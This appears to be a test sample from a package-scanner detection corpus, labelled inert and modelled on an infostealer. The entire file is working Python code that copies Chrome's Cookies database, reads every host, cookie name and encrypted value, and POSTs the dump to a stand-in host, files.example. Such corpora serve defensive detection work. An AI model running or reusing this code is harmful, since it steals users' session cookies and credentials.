# pkgguard corpus 319 (browser-data), modelled on [stealer-profile]; inert, never run.
import os
import shutil
import sqlite3
import tempfile

import requests

src = os.path.join(
    os.environ.get("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default", "Network", "Cookies"
)
copy = os.path.join(tempfile.gettempdir(), "c.db")
shutil.copy2(src, copy)
rows = sqlite3.connect(copy).execute("SELECT host_key, name, encrypted_value FROM cookies").fetchall()
dump = "\n".join(f"{h}\t{n}\t{v.hex()}" for h, n, v in rows)
requests.post("https://files.example/u", files={"c.txt": dump.encode()}, timeout=10)
